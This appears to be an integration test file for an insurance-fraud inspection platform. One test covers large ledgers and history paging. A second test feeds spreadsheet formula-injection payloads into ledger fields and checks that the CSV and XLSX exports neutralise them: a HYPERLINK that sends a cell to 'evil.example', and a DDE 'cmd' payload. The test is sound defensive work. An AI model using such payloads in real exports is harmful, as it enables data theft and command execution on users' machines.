import { parse } from 'csv-parse/sync';
import { Workbook } from 'exceljs';
import { DataSource } from 'typeorm';
import { shanghaiDay, TestIsolation } from '@lianban/testing';
import { apiClient, Json } from './api';
import { DemoPlatform, startDemoPlatform } from './platform';

/** A Shanghai calendar day `days` from today, so the campaign's phases always surround the test run. */

/**
 * Ledgers at their limits: the largest ledger with a long progress history stays readable (its view
 * fits the message bus, older steps are paged), and what an institution types never runs as a
 * formula in the exported CSV.
 */
describe('ledgers at their limits (through the gateway)', () => {
  const iso = new TestIsolation();
  let platform: DemoPlatform;
  let api: ReturnType<typeof apiClient>;
  let as: DemoPlatform['as'];
  let cases: DataSource;
  let campaignId: string;

  beforeAll(async () => {
    platform = await startDemoPlatform(iso);
    ({ api, as } = platform);
    cases = platform.services.get('cases')!.get(DataSource);
    const c = await api.call('POST', '/campaigns', await as('zhangye-mi-officer'), {
      name: '张掖市打击欺诈骗保专项整治行动（边界测试）',
      documentNumber: '张医保发〔2026〕21号',
      regionCode: '620700',
      targets: ['hospital', 'pharmacy'],
      auditPeriodFrom: '2025-01-01',
      auditPeriodTo: shanghaiDay(-11),
      startsOn: shanghaiDay(-10),
      endsOn: shanghaiDay(60),
      phases: [
        { kind: 'mobilisation', startsOn: shanghaiDay(-10), endsOn: shanghaiDay(-1) },
        { kind: 'self_inspection', startsOn: shanghaiDay(0), endsOn: shanghaiDay(10) },
      ],
    });
    expect(c.status).toBe(201);
    campaignId = c.body.id;
  }, 60_000);

  afterAll(async () => {
    await platform?.stop();
    await iso.cleanup();
  });

  async function download(path: string, user: string): Promise<{ status: number; data: Buffer }> {
    const res = await fetch(`${platform.url}/api/v1${path}`, { headers: { authorization: `Bearer ${await as(user)}` } });
    return { status: res.status, data: Buffer.from(await res.arrayBuffer()) };
  }

  it('the largest ledger stays readable however often its reasons are rewritten; older steps are paged with every change', async () => {
    const problems = Array.from({ length: 200 }, () => ({
      category: '类'.repeat(100),
      content: '容'.repeat(300),
      violatingEmployeesFen: 100,
      violatingResidentsFen: 0,
      refundedEmployeesFen: 0,
      refundedResidentsFen: 0,
      rectified: false,
      reason: '因'.repeat(200),
    }));
    const inst = await as('h62070200004');
    const bureau = await as('ganzhou-mi-officer');
    const l = await api.call('POST', `/campaigns/${campaignId}/ledgers`, inst, { insuranceTypes: ['employees'], problems });
    expect(l.status).toBe(201);
    const id = l.body.id;
    expect((await api.call('POST', `/ledgers/${id}/steps`, inst, { action: 'submit' })).status).toBe(200);
    expect((await api.call('POST', `/ledgers/${id}/steps`, bureau, { action: 'accept' })).status).toBe(200);

    // Each entry rewrites all 200 reasons: its step keeps 200 rows before and after (~240 KB).
    const chars = ['甲', '乙', '丙', '丁', '戊', '己'];
    const replies: Json[] = [];
    for (const [n, ch] of chars.entries()) {
      replies.push(
        await api.call('POST', `/ledgers/${id}/progress`, inst, {
          problems: problems.map((_, i) => ({ seq: i + 1, refundedEmployeesFen: n, refundedResidentsFen: 0, rectified: false, reason: ch.repeat(200) })),
        }),
      );
    }
    expect(replies.map((r) => r.status)).toEqual([200, 200, 200, 200, 200, 200]);
    for (const [n, r] of replies.entries()) {
      expect(r.body.problems[0].reason).toBe(chars[n].repeat(200));
      expect(r.body.historyTotal).toBe(3 + n + 1);
      // The step just recorded is in the view, with its changes.
      expect(r.body.history.at(-1)).toMatchObject({ action: 'progress' });
      expect(r.body.history.at(-1).changes).toHaveLength(200);
    }
    // One step per entry, none repeated by a client that saw a timeout.
    const [{ n }] = await cases.query(`SELECT count(*)::int AS n FROM self_inspection_step WHERE ledger_id = $1 AND action = 'progress'`, [id]);
    expect(n).toBe(6);

    const g = await api.call('GET', `/ledgers/${id}`, bureau);
    expect(g.status).toBe(200);
    expect(g.body.historyTotal).toBe(9);
    expect(g.body.history.length).toBeLessThan(9);
    expect(g.body.history.length).toBeGreaterThan(0);
    expect(g.body.history.at(-1).changes[0]).toMatchObject({ seq: 1, before: { reason: '戊'.repeat(200) }, after: { reason: '己'.repeat(200) } });
    expect(g.body.historyBefore).toBe(g.body.history[0].id);

    // Paging from the newest step gives every step once, newest first, each with all its rows.
    const seen: Json[] = [];
    let before: number | null = null;
    for (let page = 0; page < 20; page++) {
      const h: Json = await api.call('GET', `/ledgers/${id}/history${before ? `?before=${before}` : ''}`, bureau);
      expect(h.status).toBe(200);
      expect(h.body.total).toBe(9);
      seen.push(...h.body.items);
      before = h.body.before;
      if (before === null) break;
    }
    expect(seen.map((s) => s.action)).toEqual(['progress', 'progress', 'progress', 'progress', 'progress', 'progress', 'accept', 'submit', 'create']);
    expect(seen.filter((s) => s.action === 'progress').every((s) => s.changes.length === 200)).toBe(true);
    expect(seen.map((s) => s.id)).toEqual([...seen.map((s) => s.id)].sort((a, b) => b - a));
    // The older steps the view left out start right before its oldest one.
    const older: Json = await api.call('GET', `/ledgers/${id}/history?before=${g.body.historyBefore}`, bureau);
    expect(older.body.items[0].id).toBe(seen[g.body.history.length].id);

    // The history is read by whoever reads the ledger, and nobody else.
    expect((await api.call('GET', `/ledgers/${id}/history`, inst)).status).toBe(200);
    expect((await api.call('GET', `/ledgers/${id}/history`, await as('h62070200001'))).status).toBe(404);
    expect((await api.call('GET', `/ledgers/${id}/history?before=x`, bureau)).body.code).toBe('VALIDATION_FAILED');

    // The export and the list still work, and so does the service.
    expect((await download(`/ledgers/${id}/annex3.csv`, 'ganzhou-mi-officer')).status).toBe(200);
    expect((await api.call('GET', `/campaigns/${campaignId}/ledgers`, bureau)).status).toBe(200);
  }, 120_000);

  it("an institution's text never runs as a formula in the Annex 3 CSV; the workbook keeps it as text", async () => {
    const inst = await as('h62070200001');
    const payloads = { category: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', content: "@SUM(1+1)*cmd|' /C calc'!A0", reason: '+1+1' };
    const l = await api.call('POST', `/campaigns/${campaignId}/ledgers`, inst, {
      insuranceTypes: ['employees'],
      problems: [
        { ...payloads, violatingEmployeesFen: 100, violatingResidentsFen: 0, refundedEmployeesFen: 0, refundedResidentsFen: 0, rectified: false },
        { category: '-1+2', content: '\t=1+1', violatingEmployeesFen: 250, violatingResidentsFen: 0, refundedEmployeesFen: 0, refundedResidentsFen: 0, rectified: false, reason: '正在整改' },
      ],
    });
    expect(l.status).toBe(201);
    // Stored and shown as typed.
    expect(l.body.problems[0]).toMatchObject(payloads);

    const file = await download(`/ledgers/${l.body.id}/annex3.csv`, 'ganzhou-mi-officer');
    expect(file.status).toBe(200);
    const rows = parse(file.data.toString('utf8'), { bom: true, relaxColumnCount: true }) as string[][];
    expect(rows[5]).toEqual(['1', `'${payloads.category}`, `'${payloads.content}`, '1.00', '0.00', '0.00', '0.00', '②未完成整改', "'+1+1"]);
    expect(rows[6]).toEqual(['2', "'-1+2", "'\t=1+1", '2.50', '0.00', '0.00', '0.00', '②未完成整改', '正在整改']);
    // No cell of the file starts with a formula character.
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    const xlsx = await download(`/ledgers/${l.body.id}/annex3.xlsx`, 'ganzhou-mi-officer');
    const wb = new Workbook();
    await wb.xlsx.load(xlsx.data as never);
    const cell = wb.worksheets[0].getCell('B6');
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(payloads.category);
    expect(wb.worksheets[0].getCell('D6').value).toBe(1);
  }, 60_000);
});
